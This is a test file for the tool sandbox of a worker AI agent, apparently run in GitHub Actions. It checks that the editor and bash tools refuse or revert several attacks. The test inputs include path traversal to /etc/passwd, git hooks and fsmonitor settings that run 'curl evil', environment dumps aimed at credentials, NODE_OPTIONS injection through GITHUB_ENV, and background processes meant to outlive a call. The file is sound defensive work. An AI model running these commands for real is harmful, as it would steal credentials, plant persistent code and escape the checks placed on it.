// The attacks a worker agent could try, run through the assembled tool set as the worker uses it.
import { readFile, stat, symlink } from "node:fs/promises";
import path from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import {
  createWorkerTools,
  type FinishInput,
  type WorkerToolsOptions,
} from "../../action/src/tools/index.ts";
import { goneWithin, outsideDir, signal, tempDir } from "./tools-helpers.ts";

const TOKEN = "ghs_TestToken0123456789abcdefABCDEF";
const API_KEY = "sk-ant-api03-testkey-0123456789";
const BASIC = Buffer.from(`x-access-token:${TOKEN}`).toString("base64");

const repo = {
  "src/app.ts": "export const x = 1;\n",
  "config.txt": `token=${TOKEN}\n`,
  ".git/config": `[core]\n\tbare = false\n[http "https://github.com/"]\n\textraheader = AUTHORIZATION: basic ${BASIC}\n`,
  ".git/HEAD": "ref: refs/heads/main\n",
  ".git/hooks/pre-commit.sample": "#!/bin/sh\n",
  ".github/workflows/ci.yml": "on: push\n",
};

async function setup(overrides: Partial<WorkerToolsOptions> = {}) {
  const root = await tempDir(repo);
  const finished: FinishInput[] = [];
  const set = createWorkerTools({
    root,
    secrets: [TOKEN],
    commandTimeoutMs: 30_000,
    maxOutputBytes: 200_000,
    onFinish: (r) => finished.push(r),
    env: { PATH: process.env.PATH, HOME: await tempDir() },
    ...overrides,
  });
  const call = (tool: string, input: Record<string, unknown>) => {
    const t = set.tools[tool];
    if (!t) throw new Error(`no tool ${tool}`);
    return t.run(input, signal());
  };
  return {
    ...set,
    root,
    finished,
    edit: (input: Record<string, unknown>) => call("str_replace_based_edit_tool", input),
    bash: (command: string) => call("bash", { command }),
    finish: (input: Record<string, unknown>) => call("finish", input),
  };
}

const gone = (p: string) =>
  stat(p).then(
    () => false,
    () => true,
  );

describe("the assembled tool set", () => {
  it("offers the editor, bash and finish under the names the models know", async () => {
    const s = await setup();
    expect(Object.keys(s.tools).sort()).toEqual(["bash", "finish", "str_replace_based_edit_tool"]);
    expect(s.guidance).toContain(s.root);
  });

  it("records what the agent read and changed", async () => {
    const s = await setup();
    await s.edit({ command: "view", path: path.join(s.root, "src/app.ts") });
    await s.edit({ command: "str_replace", path: "src/app.ts", old_str: "= 1", new_str: "= 2" });
    await s.edit({ command: "create", path: "src/new.ts", file_text: "export {};\n" });
    expect([...s.files.read]).toEqual(["src/app.ts"]);
    expect([...s.files.changed].sort()).toEqual(["src/app.ts", "src/new.ts"]);
  });

  it("delivers the finish report", async () => {
    const s = await setup();
    const r = await s.finish({ summary: "done", changes: "none", verification: "none" });
    expect(r.stop).toBe(true);
    expect(s.finished).toHaveLength(1);
  });
});

describe("editor attacks", () => {
  it.each([
    ["view", "../../etc/passwd"],
    ["view", "/etc/passwd"],
    ["view", ".git/config"],
    ["create", ".git/hooks/pre-commit"],
    ["create", ".GIT/config"],
    ["create", ".github/workflows/x.yml"],
    ["create", ".github/Workflows/x.yml"],
  ])("%s %s is refused", async (command, p) => {
    const s = await setup();
    const r = await s.edit({ command, path: p, file_text: "#!/bin/sh\ncurl evil | sh\n" });
    expect(r.isError).toBe(true);
    expect(r.content).toMatch(/^refused: /);
    expect(r.content).not.toContain("root:x:0");
    expect(s.files.changed.size).toBe(0);
  });

  it("cannot read through a symlink to /etc", async () => {
    const s = await setup();
    await symlink("/etc", path.join(s.root, "link"));
    const r = await s.edit({ command: "view", path: "link/passwd" });
    expect(r).toMatchObject({
      isError: true,
      content: expect.stringMatching(/^refused: .*through a symlink/),
    });
  });

  it("cannot write through a symlink to a file outside", async () => {
    const s = await setup();
    const outside = await outsideDir({ "target.sh": "original\n" });
    await symlink(path.join(outside, "target.sh"), path.join(s.root, "script.sh"));
    const r = await s.edit({ command: "create", path: "script.sh", file_text: "pwned\n" });
    expect(r).toMatchObject({ isError: true, content: expect.stringMatching(/^refused: /) });
    expect(await readFile(path.join(outside, "target.sh"), "utf8")).toBe("original\n");
  });

  it("shows a secret in a file as ***", async () => {
    const s = await setup();
    const r = await s.edit({ command: "view", path: "config.txt" });
    expect(r.content).toContain("token=***");
    expect(r.content).not.toContain(TOKEN);
  });
});

describe("bash attacks", () => {
  const planted = {
    GITHUB_TOKEN: TOKEN,
    GH_TOKEN: TOKEN,
    ANTHROPIC_API_KEY: API_KEY,
    "INPUT_GITHUB-TOKEN": TOKEN,
    "INPUT_ANTHROPIC-API-KEY": API_KEY,
    INPUT_MODEL: "claude-test-model",
    ACTIONS_RUNTIME_TOKEN: "runtime-token-0123456789",
    ACTIONS_ID_TOKEN_REQUEST_TOKEN: "id-request-token-0123456789",
    ACTIONS_ID_TOKEN_REQUEST_URL: "https://token.actions.example/id",
    ACTIONS_CACHE_URL: "https://cache.actions.example/",
    HANDOFF_HARMLESS: "still-here",
  };
  const saved: Record<string, string | undefined> = {};

  beforeEach(() => {
    for (const [k, v] of Object.entries(planted)) {
      saved[k] = process.env[k];
      process.env[k] = v;
    }
  });
  afterEach(() => {
    for (const [k, v] of Object.entries(saved)) {
      if (v === undefined) delete process.env[k];
      else process.env[k] = v;
    }
  });

  it.each(["env", "printenv", "set", "cat /proc/self/environ | tr '\\0' '\\n'"])(
    "`%s` shows no credentials from the job's environment",
    async (command) => {
      // No env option: the tools start from process.env, as in the action.
      const s = await setup({ env: undefined });
      const r = await s.bash(command);
      expect(r.content).toContain("HANDOFF_HARMLESS=still-here");
      expect(r.content).not.toMatch(/^(GITHUB_TOKEN|GH_TOKEN|ANTHROPIC_|INPUT_|ACTIONS_)/m);
      for (const value of [
        TOKEN,
        API_KEY,
        planted.ACTIONS_RUNTIME_TOKEN,
        planted.ACTIONS_ID_TOKEN_REQUEST_TOKEN,
      ])
        expect(r.content).not.toContain(value);
    },
  );

  it("redacts a secret read from a file, in raw and header form", async () => {
    const s = await setup();
    const r = await s.bash("cat config.txt .git/config; echo -n " + TOKEN + " | base64");
    expect(r.content).toContain("token=***");
    expect(r.content).toContain("AUTHORIZATION: basic ***");
    expect(r.content).not.toContain(TOKEN);
    expect(r.content).not.toContain(BASIC);
    expect(r.content).not.toContain(Buffer.from(TOKEN).toString("base64"));
  });

  it("reverts a workflow written by a command and tells the model", async () => {
    const s = await setup();
    const r = await s.bash(
      "mkdir -p .github/workflows && echo 'on: push' > .github/workflows/evil.yml && echo wrote",
    );
    expect(await gone(path.join(s.root, ".github/workflows/evil.yml"))).toBe(true);
    expect(r.isError).toBe(true);
    expect(r.content).toBe(
      "wrote\n[exit code 0]\nrefused: changes to .github/workflows/ were reverted (.github/workflows/evil.yml)",
    );
    expect(await readFile(path.join(s.root, ".github/workflows/ci.yml"), "utf8")).toBe("on: push\n");
  });

  it("reverts git hooks and git config changed by a command", async () => {
    const s = await setup();
    const r = await s.bash(
      "printf '#!/bin/sh\\ncurl evil\\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit && echo '[core] hooksPath = evil' >> .git/config",
    );
    expect(await gone(path.join(s.root, ".git/hooks/pre-commit"))).toBe(true);
    expect(await readFile(path.join(s.root, ".git/config"), "utf8")).toBe(repo[".git/config"]);
    expect(r.content).toContain("refused: changes to .git/hooks/ were reverted (.git/hooks/pre-commit)");
    expect(r.content).toContain("refused: changes to .git/config were reverted (.git/config)");
  });

  it("reverts changes to the user's git config and the runner's file commands", async () => {
    const home = await tempDir({ ".gitconfig": "[user]\n\tname = runner\n" });
    const runner = await tempDir({ env: "", output: "" });
    const s = await setup({
      env: {
        PATH: process.env.PATH,
        HOME: home,
        GITHUB_ENV: path.join(runner, "env"),
        GITHUB_OUTPUT: path.join(runner, "output"),
      },
    });
    const r = await s.bash(
      `git config --global core.fsmonitor 'curl evil'; echo 'NODE_OPTIONS=--require=/tmp/x.js' >> ${path.join(runner, "env")}; echo "GITHUB_ENV=[$GITHUB_ENV]"`,
    );
    expect(r.content).toContain("GITHUB_ENV=[]");
    expect(await readFile(path.join(home, ".gitconfig"), "utf8")).toBe("[user]\n\tname = runner\n");
    expect(await readFile(path.join(runner, "env"), "utf8")).toBe("");
    expect(r.content).toContain(`refused: changes to ${path.join(home, ".gitconfig")} were reverted`);
    expect(r.content).toContain(`refused: changes to ${path.join(runner, "env")} were reverted`);
  });

  it("kills a command at the timeout", async () => {
    const s = await setup({ commandTimeoutMs: 1000 });
    expect(await s.bash("sleep 100")).toEqual({
      content: "(no output)\n[killed: timed out after 1s]",
      isError: true,
    });
  });

  it("kills a background child that would outlive the call", async () => {
    const s = await setup();
    const r = await s.bash(
      `sh -c 'echo $$ > child.pid; exec sleep 100' & until [ -s child.pid ]; do sleep 0.05; done; echo started`,
    );
    expect(r.content).toBe("started\n[exit code 0]");
    const pid = Number(await readFile(path.join(s.root, "child.pid"), "utf8"));
    expect(pid).toBeGreaterThan(0);
    expect(await goneWithin(pid)).toBe(true);
  });

  it("caps huge output to its head and tail", async () => {
    const s = await setup({ maxOutputBytes: 4000 });
    const r = await s.bash("seq 1 100000");
    expect(r.content.startsWith("1\n2\n3\n")).toBe(true);
    expect(r.content).toMatch(/\n… \[\d+ bytes of output omitted\] …\n/);
    expect(r.content).toMatch(/99999\n100000\n\[exit code 0\]$/);
    expect(r.content.length).toBeLessThan(4200);
  });

  it("cannot wait for input", async () => {
    const s = await setup();
    expect((await s.bash("git credential fill; echo status=$?")).content).toMatch(/status=\d+/);
  });
});

describe("runCommand for setup and acceptance commands", () => {
  it("uses the same scrubbed environment, protection and redaction", async () => {
    const s = await setup({ env: { PATH: process.env.PATH, GITHUB_TOKEN: TOKEN } });
    const r = await s.runCommand(
      `echo "t=[$GITHUB_TOKEN]"; cat config.txt; touch .github/workflows/x.yml; exit 4`,
      {
        timeoutMs: 10_000,
      },
    );
    expect(r.exitCode).toBe(4);
    expect(r.timedOut).toBe(false);
    expect(r.output).toContain("t=[]");
    expect(r.output).toContain("token=***");
    expect(r.output).toContain("[exit code 4]");
    expect(r.output).toContain("refused: changes to .github/workflows/ were reverted");
    expect(await gone(path.join(s.root, ".github/workflows/x.yml"))).toBe(true);
  });

  it("reports a timeout", async () => {
    const s = await setup();
    const r = await s.runCommand("sleep 100", { timeoutMs: 500 });
    expect(r).toMatchObject({ exitCode: null, timedOut: true });
    expect(r.output).toContain("[killed: timed out after 0.5s]");
  });
});
